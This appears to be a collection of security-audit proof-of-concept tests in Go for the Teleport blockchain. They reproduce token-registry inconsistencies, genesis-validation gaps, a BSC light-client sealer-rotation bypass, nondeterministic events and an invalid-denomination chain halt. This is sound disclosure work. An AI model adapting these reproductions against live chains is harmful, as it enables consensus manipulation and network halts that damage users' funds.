// metadata; a registered denomination WITHOUT bank metadata - e.g. a pair that came in
// through a (valid) genesis, bank genesis carrying no denom metadata for it - can
// therefore be registered a second time, and/or added to a second pair.
//
// run: go test ./x/aggregate/keeper/ -run TestZZFinding4 -count=1 -v
package keeper_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

func TestZZFinding4(t *testing.T) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	k := s.app.AggregateKeeper
	handler := aggregate.NewAggregateProposalHandler(s.app.AggregateKeeper)
	run := func(c govtypes.Content) error {
		if err := c.ValidateBasic(); err != nil {
			return fmt.Errorf("ValidateBasic: %w", err)
		}
		cacheCtx, write := s.ctx.CacheContext()
		err := handler(cacheCtx, c)
		if err == nil {
			write()
		}
		return err
	}
	meta := func(base, display, name string) banktypes.Metadata {
		return banktypes.Metadata{
			Description: "a coin",
			Base:        base,
			DenomUnits:  []*banktypes.DenomUnit{{Denom: base, Exponent: 0}, {Denom: display, Exponent: 18}},
			Name:        name,
			Symbol:      "SYM",
			Display:     display,
		}
	}

	// the coin exists (has supply) but the bank module holds no metadata for it
	const denom = "ucoin"
	coins := sdk.NewCoins(sdk.NewInt64Coin(denom, 1000))
	s.Require().NoError(s.app.BankKeeper.MintCoins(s.ctx, types.ModuleName, coins))
	user := sdk.AccAddress(s.address.Bytes())
	s.Require().NoError(s.app.BankKeeper.SendCoinsFromModuleToAccount(s.ctx, types.ModuleName, user, coins))

	// its pair comes from genesis: an ERC-20 owned by the module (deployed the way RegisterCoin does)
	contractA, err := k.DeployERC20Contract(s.ctx, meta(denom, "coin", "Coin"))
	s.Require().NoError(err)
	s.Commit()
	gen := types.NewGenesisState(types.DefaultParams(), []types.TokenPair{types.NewTokenPair(contractA, []string{denom}, true, types.OWNER_MODULE)})
	if err := gen.Validate(); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: genesis invalid: %v\n", err)
		return
	}
	aggregate.InitGenesis(s.ctx, *k, s.app.AccountKeeper, gen)
	if pr := zzRegistryProblems4(s); len(pr) != 0 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: registry inconsistent right after genesis: %v\n", pr)
		return
	}

	// before the change: 100 ucoin -> 100 tokens of contract A
	goCtx := sdk.WrapSDKContext(s.ctx)
	if _, err := k.ConvertCoin(goCtx, types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 100), s.address, user)); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup ConvertCoin failed: %v\n", err)
		return
	}
	s.Commit()

	// governance registers the (already registered) coin; Name differs from Base, as is usual
	errReg := run(types.NewRegisterCoinProposal("t", "d", meta(denom, "coin", "Coin")))
	problems := zzRegistryProblems4(s)
	n := 0
	for _, p := range k.GetAllTokenPairs(s.ctx) {
		for _, d := range p.Denoms {
			if d == denom {
				n++
			}
		}
	}
	goCtx = sdk.WrapSDKContext(s.ctx)
	_, errBack := k.ConvertERC20(goCtx, types.NewMsgConvertERC20(sdk.NewInt(100), user, contractA, s.address, denom))

	if errReg != nil && len(problems) == 0 && errBack == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: second registration of %s rejected (%v); registry consistent; convert-back works\n", denom, errReg)
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: RegisterCoin(Base=%s, Name=Coin) accepted (err=%v) although %s is registered; %d pairs now list %s; problems: %s; converting the 100 tokens of %s (minted from %s before the change) back: err=%v\n",
		denom, errReg, denom, n, denom, strings.Join(problems, " ; "), contractA.Hex(), denom, errBack)
}

// zzRegistryProblems4 checks the three-way consistency demanded by C12.
func zzRegistryProblems4(s *KeeperTestSuite) []string {
	k := s.app.AggregateKeeper
	var out []string
	pairs := k.GetAllTokenPairs(s.ctx)
	byContract := map[string]int{}
	byDenom := map[string]int{}
	for _, p := range pairs {
		id := p.GetID()
		byContract[p.GetERC20Contract().Hex()]++
		if got := k.GetERC20Map(s.ctx, p.GetERC20Contract()); !bytes.Equal(got, id) {
			out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its contract address (address index points to another pair)", p.ERC20Address, p.Denoms[0]))
		}
		for _, d := range p.Denoms {
			byDenom[d]++
			if got := k.GetDenomMap(s.ctx, d); !bytes.Equal(got, id) {
				out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its denomination %s", p.ERC20Address, p.Denoms[0], d))
			}
		}
	}
	for c, n := range byContract {
		if n > 1 {
			out = append(out, fmt.Sprintf("contract %s belongs to %d pairs", c, n))
		}
	}
	for d, n := range byDenom {
		if n > 1 {
			out = append(out, fmt.Sprintf("denomination %s belongs to %d pairs", d, n))
		}
	}
	return out
}
