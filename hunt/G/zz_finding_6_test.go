// Package directory: x/aggregate/keeper   (package keeper_test)
//
// Finding 6 (C12 / C13): aggregate GenesisState.Validate is the only gate in front of
// InitGenesis, and it does not enforce the registry invariants:
//
//	(a) the duplicate-contract check compares the address STRINGS, so the same contract in
//	    two letter cases passes;
//	(b) only Denoms[0] of every pair takes part in the duplicate-denomination check, so a
//	    denomination shared through a later position passes;
//	(c) a pair without denominations makes Validate panic (index out of range) instead of
//	    returning an error.
//
// InitGenesis then builds a registry in which a contract / a denomination belongs to two pairs.
//
// run: go test ./x/aggregate/keeper/ -run TestZZFinding6 -count=1 -v
package keeper_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/ethereum/go-ethereum/common"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

func TestZZFinding6(t *testing.T) {
	addrA := common.HexToAddress("0xAbCdEf0123456789aBcDeF0123456789ABCDEF01")
	addrB := common.HexToAddress("0x1111111111111111111111111111111111111111")
	var confirmed []string

	// (a) same contract, two spellings
	{
		s := new(KeeperTestSuite)
		s.SetT(t)
		s.SetupTest()
		gen := types.NewGenesisState(types.DefaultParams(), []types.TokenPair{
			{ERC20Address: addrA.Hex(), Denoms: []string{"coinx"}, Enabled: true, ContractOwner: types.OWNER_MODULE},
			{ERC20Address: strings.ToLower(addrA.Hex()), Denoms: []string{"coiny"}, Enabled: true, ContractOwner: types.OWNER_MODULE},
		})
		if err := gen.Validate(); err == nil {
			aggregate.InitGenesis(s.ctx, *s.app.AggregateKeeper, s.app.AccountKeeper, gen)
			if pr := zzRegistryProblems6(s); len(pr) != 0 {
				confirmed = append(confirmed, "(a) same contract in two letter cases passes Validate -> "+strings.Join(pr, " ; "))
			}
		}
	}
	// (b) denomination shared through a non-first position
	{
		s := new(KeeperTestSuite)
		s.SetT(t)
		s.SetupTest()
		gen := types.NewGenesisState(types.DefaultParams(), []types.TokenPair{
			{ERC20Address: addrA.Hex(), Denoms: []string{"coinx", "coiny"}, Enabled: true, ContractOwner: types.OWNER_MODULE},
			{ERC20Address: addrB.Hex(), Denoms: []string{"coiny"}, Enabled: true, ContractOwner: types.OWNER_MODULE},
		})
		if err := gen.Validate(); err == nil {
			aggregate.InitGenesis(s.ctx, *s.app.AggregateKeeper, s.app.AccountKeeper, gen)
			if pr := zzRegistryProblems6(s); len(pr) != 0 {
				confirmed = append(confirmed, "(b) denomination shared via Denoms[1] passes Validate -> "+strings.Join(pr, " ; "))
			}
		}
	}
	// (c) pair without denominations
	func() {
		defer func() {
			if r := recover(); r != nil {
				confirmed = append(confirmed, fmt.Sprintf("(c) Validate panics on a pair without denominations: %v", r))
			}
		}()
		gen := types.NewGenesisState(types.DefaultParams(), []types.TokenPair{{ERC20Address: addrA.Hex(), Enabled: true, ContractOwner: types.OWNER_MODULE}})
		_ = gen.Validate()
	}()

	if len(confirmed) == 0 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: Validate rejects all three malformed genesis states\n")
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: %s\n", strings.Join(confirmed, " || "))
}

// zzRegistryProblems6 checks the three-way consistency demanded by C12.
func zzRegistryProblems6(s *KeeperTestSuite) []string {
	k := s.app.AggregateKeeper
	var out []string
	pairs := k.GetAllTokenPairs(s.ctx)
	byContract := map[string]int{}
	byDenom := map[string]int{}
	for _, p := range pairs {
		id := p.GetID()
		byContract[p.GetERC20Contract().Hex()]++
		if got := k.GetERC20Map(s.ctx, p.GetERC20Contract()); !bytes.Equal(got, id) {
			out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its contract address (address index points to another pair)", p.ERC20Address, p.Denoms[0]))
		}
		for _, d := range p.Denoms {
			byDenom[d]++
			if got := k.GetDenomMap(s.ctx, d); !bytes.Equal(got, id) {
				out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its denomination %s", p.ERC20Address, p.Denoms[0], d))
			}
		}
	}
	for c, n := range byContract {
		if n > 1 {
			out = append(out, fmt.Sprintf("contract %s belongs to %d pairs", c, n))
		}
	}
	for d, n := range byDenom {
		if n > 1 {
			out = append(out, fmt.Sprintf("denomination %s belongs to %d pairs", d, n))
		}
	}
	return out
}
