// Package directory: x/aggregate/keeper   (package keeper_test)
//
// Finding 5 (C12): GetTokenPairID decides between the address index and the denomination
// index with common.IsHexAddress(token), which also accepts 40 hex digits WITHOUT the 0x
// prefix.  A denomination such as "abcdefabcdefabcdefabcdefabcdefabcdefabcd" is a valid
// SDK / IBC denomination and passes RegisterCoinProposal.ValidateBasic; the pair is stored
// and indexed under the denomination, but every lookup by that denomination (ConvertCoin,
// ToggleTokenRelay, the TokenPair query) goes to the address index and misses it.
//
// run: go test ./x/aggregate/keeper/ -run TestZZFinding5 -count=1 -v
package keeper_test

import (
	"fmt"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

func TestZZFinding5(t *testing.T) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	k := s.app.AggregateKeeper
	handler := aggregate.NewAggregateProposalHandler(s.app.AggregateKeeper)
	run := func(c govtypes.Content) error {
		if err := c.ValidateBasic(); err != nil {
			return fmt.Errorf("ValidateBasic: %w", err)
		}
		cacheCtx, write := s.ctx.CacheContext()
		err := handler(cacheCtx, c)
		if err == nil {
			write()
		}
		return err
	}

	const denom = "abcdefabcdefabcdefabcdefabcdefabcdefabcd" // valid denom: [a-zA-Z][a-zA-Z0-9/:._-]{2,127}
	coins := sdk.NewCoins(sdk.NewInt64Coin(denom, 1000))
	s.Require().NoError(s.app.BankKeeper.MintCoins(s.ctx, types.ModuleName, coins))
	user := sdk.AccAddress(s.address.Bytes())
	s.Require().NoError(s.app.BankKeeper.SendCoinsFromModuleToAccount(s.ctx, types.ModuleName, user, coins))

	md := banktypes.Metadata{
		Description: "a coin", Base: denom,
		DenomUnits: []*banktypes.DenomUnit{{Denom: denom, Exponent: 0}, {Denom: "hexcoin", Exponent: 18}},
		Name:       "Hex Coin", Symbol: "HEX", Display: "hexcoin",
	}
	errReg := run(types.NewRegisterCoinProposal("t", "d", md))
	if errReg != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: registration of the hex-looking denomination is rejected: %v\n", errReg)
		return
	}
	stored := len(k.GetDenomMap(s.ctx, denom)) != 0
	byLookup := len(k.GetTokenPairID(s.ctx, denom)) != 0
	msg := types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 100), s.address, user)
	errMsg := msg.ValidateBasic()
	_, errConv := k.ConvertCoin(sdk.WrapSDKContext(s.ctx), msg)
	_, errToggle := k.ToggleRelay(s.ctx, denom)
	if byLookup && errConv == nil && errToggle == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: pair found by its denomination and coin converted\n")
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: RegisterCoin(Base=%s) accepted; denomination index holds the pair: %v; GetTokenPairID(denom) finds it: %v; MsgConvertCoin.ValidateBasic=%v, ConvertCoin err=%v; ToggleRelay(denom) err=%v\n",
		denom, stored, byLookup, errMsg, errConv, errToggle)
}
