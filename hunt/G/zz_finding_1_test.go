// Package directory: x/aggregate/keeper   (package keeper_test)
//
// Finding 1 (C12): UpdateTokenPairERC20 accepts a NEW contract address that
// is already the contract of another registered pair.  Governance-only
// history: RegisterERC20(A), RegisterERC20(B), UpdateTokenPairERC20(A -> B).
//
// run: go test ./x/aggregate/keeper/ -run TestZZFinding1 -count=1 -v
package keeper_test

import (
	"bytes"
	"fmt"
	"math/big"
	"strings"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

// zzRegistryProblems1 checks the three-way consistency demanded by C12.
func zzRegistryProblems1(s *KeeperTestSuite) []string {
	k := s.app.AggregateKeeper
	var out []string
	pairs := k.GetAllTokenPairs(s.ctx)
	byContract := map[string]int{}
	byDenom := map[string]int{}
	for _, p := range pairs {
		id := p.GetID()
		byContract[p.GetERC20Contract().Hex()]++
		if got := k.GetERC20Map(s.ctx, p.GetERC20Contract()); !bytes.Equal(got, id) {
			out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its contract address (address index points to another pair)", p.ERC20Address, p.Denoms[0]))
		}
		for _, d := range p.Denoms {
			byDenom[d]++
			if got := k.GetDenomMap(s.ctx, d); !bytes.Equal(got, id) {
				out = append(out, fmt.Sprintf("pair(%s|%s) is NOT found by its denomination %s", p.ERC20Address, p.Denoms[0], d))
			}
		}
	}
	for c, n := range byContract {
		if n > 1 {
			out = append(out, fmt.Sprintf("contract %s belongs to %d pairs", c, n))
		}
	}
	for d, n := range byDenom {
		if n > 1 {
			out = append(out, fmt.Sprintf("denomination %s belongs to %d pairs", d, n))
		}
	}
	return out
}

func TestZZFinding1(t *testing.T) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.SetupTest()
	k := s.app.AggregateKeeper
	handler := aggregate.NewAggregateProposalHandler(s.app.AggregateKeeper)

	// two ordinary ERC-20 contracts with the same name / symbol / decimals
	// (name is already in the sanitised form, so that the bank metadata created by
	// RegisterERC20 is the one UpdateTokenPairERC20 expects - nothing is patched by hand)
	addrA := s.DeployContract("coin", "CTKN", 18)
	s.Commit()
	addrB := s.DeployContract("coin", "CTKN", 18)
	s.Commit()

	run := func(c govtypes.Content) error {
		if err := c.ValidateBasic(); err != nil {
			return fmt.Errorf("ValidateBasic: %w", err)
		}
		// same discipline as gov: handler on a cache context, written only on success
		cacheCtx, write := s.ctx.CacheContext()
		err := handler(cacheCtx, c)
		if err == nil {
			write()
		}
		return err
	}

	if err := run(types.NewRegisterERC20Proposal("t", "d", addrA.Hex())); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup RegisterERC20(A) failed: %v\n", err)
		return
	}
	if err := run(types.NewRegisterERC20Proposal("t", "d", addrB.Hex())); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup RegisterERC20(B) failed: %v\n", err)
		return
	}
	denomB := types.CreateDenom(addrB.String())
	if pr := zzRegistryProblems1(s); len(pr) != 0 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: registry inconsistent before the action: %v\n", pr)
		return
	}

	// a holder of B tokens converts 100 B -> coins, and 40 coins -> B again (works)
	user := sdk.AccAddress(s.address.Bytes())
	s.MintERC20Token(addrB, s.address, s.address, big.NewInt(100))
	s.Commit()
	goCtx := sdk.WrapSDKContext(s.ctx)
	if _, err := k.ConvertERC20(goCtx, types.NewMsgConvertERC20(sdk.NewInt(100), user, addrB, s.address, denomB)); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup ConvertERC20 failed: %v\n", err)
		return
	}
	if _, err := k.ConvertCoin(goCtx, types.NewMsgConvertCoin(sdk.NewInt64Coin(denomB, 40), s.address, user)); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup ConvertCoin failed: %v\n", err)
		return
	}
	s.Commit()

	// governance action under test: move pair A onto contract B, which is pair B's contract
	errUpd := run(types.NewUpdateTokenPairERC20Proposal("t", "d", addrA.Hex(), addrB.Hex()))
	problems := zzRegistryProblems1(s)

	// the 40 B tokens came out of coin aggregate/B before the change; convert them back
	goCtx = sdk.WrapSDKContext(s.ctx)
	_, errBack := k.ConvertERC20(goCtx, types.NewMsgConvertERC20(sdk.NewInt(40), user, addrB, s.address, denomB))

	if errUpd != nil && len(problems) == 0 && errBack == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: UpdateTokenPairERC20(A->B) with B already registered is rejected (%v); registry consistent; convert-back works\n", errUpd)
		return
	}
	if len(problems) == 0 && errBack == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: update accepted but registry consistent and convert-back works\n")
		return
	}
	n := 0
	for _, p := range k.GetAllTokenPairs(s.ctx) {
		if p.GetERC20Contract() == common.HexToAddress(addrB.Hex()) {
			n++
		}
	}
	fmt.Printf("REPLAY-CONFIRMED: UpdateTokenPairERC20(A->B) accepted (err=%v) although B is the contract of another pair; %d pairs now list contract B; problems: %s; converting the 40 B tokens (minted from coin %s before the change) back: err=%v\n",
		errUpd, n, strings.Join(problems, " ; "), denomB, errBack)
}
