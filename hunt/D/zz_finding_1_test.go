// Package directory: x/xibc/clients/light-clients/bsc/types  (package types_test)
// Self-contained: builds and seals its own parlia headers (no fixtures needed).
//
// C09 clause: a header is accepted only if its sealer "has not sealed any of the last floor(N/2) blocks".
//
// CheckHeaderAndUpdateState prunes the earliest consensus state once it is older than the trusting
// period and, together with it, deletes the recent-signer record of that height (update.go:68).
// The recent-signer window has nothing to do with the trusting period: when the pruned height still
// lies inside the window, the validator that sealed it may seal again at once.
package types_test

import (
	"bytes"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"sort"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"
	"golang.org/x/crypto/sha3"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/app"
	bsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

func zzFinding1Run(t *testing.T, letTrustingPeriodPass bool) (err203 error, signersBefore203 int, chainLen int) {
	const (
		epoch    = uint64(200)
		trusting = uint64(1000)
		t0       = uint64(1_000_000)
	)
	vals := zzVals(21, 7) // N = 21: floor(N/2) = 10 blocks must separate two blocks of one sealer
	a, b, c := vals[1], vals[2], vals[3]

	env := zzSetup(t, time.Unix(int64(t0)+10, 0))
	chain := "bsc-f1"

	// block 200 (epoch block) sealed by A: the client is created on it
	h200 := zzMake(nil, 200, a, vals, zzAddrs(vals), t0, 1)
	if err := env.create(chain, h200, epoch, zzAddrs(vals), trusting); err != nil {
		t.Fatalf("create: %v", err)
	}
	// block 201 sealed by B, relayed at once
	h201 := zzMake(&h200, 201, b, vals, nil, t0+3, 1)
	if err := env.update(chain, h201); err != nil {
		t.Fatalf("201: %v", err)
	}
	if letTrustingPeriodPass {
		// block 200 (t0) is now older than the trusting period, the head 201 (t0+3) is not: client still Active
		env.setTime(int64(t0 + trusting + 2))
	}
	// block 202 sealed by C: during this update the consensus state of 200 is pruned
	h202 := zzMake(&h201, 202, c, vals, nil, t0+6, 1)
	if err := env.update(chain, h202); err != nil {
		t.Fatalf("202: %v", err)
	}
	signers, _ := bsctypes.GetRecentSigners(env.app.XIBCKeeper.ClientKeeper.ClientStore(env.ctx, chain))
	// block 203 sealed by A again, 3 blocks after its block 200 (10 required)
	// (from here on the three sealers choose the header times themselves - the client does not check them -
	// so that every header expires one relaying step after it stopped being the head:
	// block k is relayed at now_k = t0+trusting+4+3(k-203) and carries the time now_{k+1}-trusting)
	nowOf := func(k uint64) uint64 { return t0 + trusting + 4 + 3*(k-203) }
	if letTrustingPeriodPass {
		env.setTime(int64(nowOf(203)))
	}
	h203 := zzMake(&h202, 203, a, vals, nil, nowOf(204)-trusting, 1)
	err203 = env.update(chain, h203)
	if err203 != nil || !letTrustingPeriodPass {
		return err203, len(signers), 0
	}
	// A, B and C now keep rotating: each update prunes the consensus state - and the signer record -
	// of the block sealed three blocks earlier
	trio := []zzVal{a, b, c}
	prev := h203
	chainLen = 1
	for k := uint64(204); k < 204+40; k++ {
		env.setTime(int64(nowOf(k)))
		h := zzMake(&prev, k, trio[(k-200)%3], vals, nil, nowOf(k+1)-trusting, 1)
		if err := env.update(chain, h); err != nil {
			break
		}
		prev = h
		chainLen++
	}
	return err203, len(signers), chainLen
}

func TestZZFinding1PruneFreesRecentSigner(t *testing.T) {
	ctrlErr, ctrlSigners, _ := zzFinding1Run(t, false)
	err, signers, chainLen := zzFinding1Run(t, true)

	if ctrlErr == nil {
		t.Logf("control run unexpectedly accepted block 203")
	}
	if err == nil && ctrlErr != nil {
		fmt.Printf("REPLAY-CONFIRMED: BSC client (21 validators) accepted block 203 sealed by the sealer of block 200 "+
			"(only 2 blocks in between, 10 required): pruning the expired consensus state of height 200 also deleted its "+
			"recent-signer record (%d records left instead of %d); 3 of the 21 validators then sealed %d consecutive accepted blocks "+
			"(203..%d) by themselves; the same header 203 without the pruning is refused with: %v\n",
			signers, ctrlSigners, chainLen, 202+chainLen, ctrlErr)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: block 203 by the sealer of block 200: with pruning err=%v, without pruning err=%v\n", err, ctrlErr)
}

// ---- helpers ----

const zzChainID = 714

type zzVal struct {
	key  *ecdsa.PrivateKey
	addr common.Address
}

// zzVals returns n deterministic validators sorted ascending by address.
func zzVals(n int, seed byte) []zzVal {
	vals := make([]zzVal, n)
	for i := 0; i < n; i++ {
		b := make([]byte, 32)
		b[0] = seed
		b[30] = byte(i >> 8)
		b[31] = byte(i + 1)
		k, err := crypto.ToECDSA(b)
		if err != nil {
			panic(err)
		}
		vals[i] = zzVal{key: k, addr: crypto.PubkeyToAddress(k.PublicKey)}
	}
	sort.Slice(vals, func(i, j int) bool { return bytes.Compare(vals[i].addr[:], vals[j].addr[:]) < 0 })
	return vals
}

func zzAddrs(vals []zzVal) [][]byte {
	out := make([][]byte, len(vals))
	for i, v := range vals {
		out[i] = append([]byte{}, v.addr.Bytes()...)
	}
	return out
}

func zzSealHash(h bsctypes.Header, chainID int64) common.Hash {
	hasher := sha3.NewLegacyKeccak256()
	if err := rlp.Encode(hasher, []interface{}{
		big.NewInt(chainID),
		h.ParentHash, h.UncleHash, h.Coinbase, h.Root, h.TxHash, h.ReceiptHash, h.Bloom,
		h.Difficulty, h.Height.RevisionHeight, h.GasLimit, h.GasUsed, h.Time,
		h.Extra[:len(h.Extra)-65], h.MixDigest, h.Nonce,
	}); err != nil {
		panic(err)
	}
	var hash common.Hash
	hasher.Sum(hash[:0])
	return hash
}

// zzMake builds and seals a header number `number` on top of parent (nil for the first one).
// curVals is the validator set in force for this block (sorted), used to pick the difficulty.
func zzMake(parent *bsctypes.Header, number uint64, signer zzVal, curVals []zzVal, epochVals [][]byte, tm uint64, root byte) bsctypes.Header {
	extra := make([]byte, 32)
	for _, v := range epochVals {
		extra = append(extra, v...)
	}
	extra = append(extra, make([]byte, 65)...)

	diff := int64(1)
	if len(curVals) > 0 && curVals[number%uint64(len(curVals))].addr == signer.addr {
		diff = 2
	}
	parentHash := common.Hash{}
	if parent != nil {
		parentHash = parent.Hash()
	}
	uncle := ethtypes.CalcUncleHash(nil)
	rootH := common.Hash{}
	rootH[0] = root
	rootH[31] = byte(number)
	h := bsctypes.Header{
		ParentHash:  parentHash[:],
		UncleHash:   uncle[:],
		Coinbase:    signer.addr.Bytes(),
		Root:        rootH[:],
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(diff).Bytes(),
		Height:      clienttypes.NewHeight(0, number),
		GasLimit:    30000000,
		GasUsed:     0,
		Time:        tm,
		Extra:       extra,
		MixDigest:   make([]byte, 32),
		Nonce:       make([]byte, 8),
	}
	sig, err := crypto.Sign(zzSealHash(h, zzChainID).Bytes(), signer.key)
	if err != nil {
		panic(err)
	}
	copy(h.Extra[len(h.Extra)-65:], sig)
	return h
}

type zzEnv struct {
	t   *testing.T
	app *app.Teleport
	ctx sdk.Context
}

func zzSetup(t *testing.T, now time.Time) *zzEnv {
	teleport := app.Setup(false, nil)
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: now, Height: 1})
	return &zzEnv{t: t, app: teleport, ctx: ctx}
}

func (e *zzEnv) create(chain string, genesis bsctypes.Header, epoch uint64, vals [][]byte, trusting uint64) error {
	cs := &bsctypes.ClientState{
		Header:          genesis,
		ChainId:         zzChainID,
		Epoch:           epoch,
		BlockInteval:    3,
		Validators:      vals,
		ContractAddress: []byte("0x00"),
		TrustingPeriod:  trusting,
	}
	cons := &bsctypes.ConsensusState{Timestamp: genesis.Time, Height: genesis.Height, Root: genesis.Root}
	return e.app.XIBCKeeper.ClientKeeper.CreateClient(e.ctx, chain, cs, cons)
}

// update applies the header in a cache context and only commits on success (as a transaction would).
func (e *zzEnv) update(chain string, h bsctypes.Header) error {
	cctx, write := e.ctx.CacheContext()
	hh := h
	if err := e.app.XIBCKeeper.ClientKeeper.UpdateClient(cctx, chain, &hh); err != nil {
		return err
	}
	write()
	return nil
}

func (e *zzEnv) setTime(unix int64) {
	e.ctx = e.ctx.WithBlockTime(time.Unix(unix, 0))
}
