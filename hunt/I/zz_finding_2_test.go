// Package directory: app/  (package app)
//
// C14: the events produced by block processing depend on Go map iteration order.
// Every event of the xibc / aggregate modules is emitted with EmitTypedEvent; with the
// pinned cosmos-sdk v0.45.2 sdk.TypedEventToEvent builds the attribute list by ranging
// over a map[string]json.RawMessage, so the same proposal executed on the same state
// yields a differently ordered abci.Event from one execution (node) to the next.
package app

import (
	"fmt"
	"strings"
	"testing"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	xibcclient "github.com/teleport-network/teleport/x/xibc/core/client"
	xibcclienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

func TestZZFinding2TypedEventAttributeOrder(t *testing.T) {
	app := Setup(false, nil)
	base := app.BaseApp.NewContext(false, tmproto.Header{Height: 1, ChainID: "teleport_9000-1"})

	handler := xibcclient.NewClientProposalHandler(app.XIBCKeeper.ClientKeeper)
	content := xibcclienttypes.NewRegisterRelayerProposal(
		"t", "d",
		sdk.AccAddress(make([]byte, 20)).String(),
		[]string{"eth-chain"},
		[]string{"0x0000000000000000000000000000000000000001"},
	)
	if err := content.ValidateBasic(); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: proposal rejected by ValidateBasic: %v\n", err)
		return
	}

	// the same content executed on the same state, as gov's EndBlocker does on every node
	orders := map[string]int{}
	var first string
	for i := 0; i < 64; i++ {
		cacheCtx, _ := base.CacheContext()
		cacheCtx = cacheCtx.WithEventManager(sdk.NewEventManager())
		if err := handler(cacheCtx, content); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: handler failed: %v\n", err)
			return
		}
		events := cacheCtx.EventManager().ABCIEvents()
		var keys []string
		for _, ev := range events {
			for _, attr := range ev.Attributes {
				keys = append(keys, ev.Type+"."+string(attr.Key))
			}
		}
		order := strings.Join(keys, ",")
		if i == 0 {
			first = order
		}
		orders[order]++
	}

	if len(orders) == 1 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: 64 executions of the same proposal on the same state emitted identical events (%s)\n", first)
		return
	}
	var list []string
	for o, n := range orders {
		list = append(list, fmt.Sprintf("%dx[%s]", n, o))
	}
	fmt.Printf("REPLAY-CONFIRMED: 64 executions of the same RegisterRelayer proposal on the same state emitted %d different event attribute orders: %s\n", len(orders), strings.Join(list, " "))
}
