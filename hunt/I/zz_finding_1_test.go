// Package directory: app/  (package app)
//
// C15: a PerBlockReward value accepted by the rvesting parameter validation
// (param-change proposal and genesis validation both use validatePerBlockReward)
// whose denomination is not a valid sdk denomination makes the rvesting
// BeginBlocker panic (bank GetBalance -> sdk.NewCoin panics on the denom),
// i.e. outside of any transaction recovery: chain halt.
package app

import (
	"fmt"
	"testing"

	abci "github.com/tendermint/tendermint/abci/types"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/params"
	paramproposal "github.com/cosmos/cosmos-sdk/x/params/types/proposal"

	rvesting "github.com/teleport-network/teleport/x/rvesting/module"
	rvestingtypes "github.com/teleport-network/teleport/x/rvesting/types"
)

func TestZZFinding1RVestingInvalidDenomHaltsBeginBlock(t *testing.T) {
	app := Setup(false, nil)
	ctx := app.BaseApp.NewContext(false, tmproto.Header{Height: 1, ChainID: "teleport_9000-1"})

	// 1. the value passes genesis validation
	gs := rvestingtypes.DefaultGenesisState()
	gs.Params.EnableVesting = true
	gs.Params.PerBlockReward = sdk.Coins{sdk.Coin{Denom: "x", Amount: sdk.OneInt()}}
	genesisErr := rvestingtypes.ValidateGenesis(gs)

	// 2. the value passes a param-change proposal (the handler gov runs at submission and at execution)
	handler := params.NewParamChangeProposalHandler(app.ParamsKeeper)
	proposal := paramproposal.NewParameterChangeProposal("t", "d", []paramproposal.ParamChange{
